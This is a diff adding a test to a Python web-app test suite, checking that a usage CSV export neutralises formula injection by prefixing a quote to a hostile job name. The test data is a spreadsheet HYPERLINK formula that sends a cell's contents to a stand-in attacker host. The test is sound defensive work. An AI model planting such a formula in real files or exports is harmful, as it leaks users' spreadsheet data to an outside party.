@@ -134,3 +134,14 @@ def test_the_totals_add_the_kept_days_to_todays_records(me, member, team, node):
     assert f'<dd id="total-cost">{total:.2f}</dd>' in page
     assert '<dd id="total-jobs">2</dd>' in page and '<dd id="total-jobs">1</dd>' in first
     assert "3.00 h" in page  # held: 2 h then 1 h
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_the_csv_neutralises_a_job_name_that_a_spreadsheet_would_run(me, member, team, node):
+    released_job(member, team, name=EVIL)
+
+    rows = csv_of(me.get("/usage.csv"))
+
+    assert [row[1] for row in rows[1:]] == ["'" + EVIL]
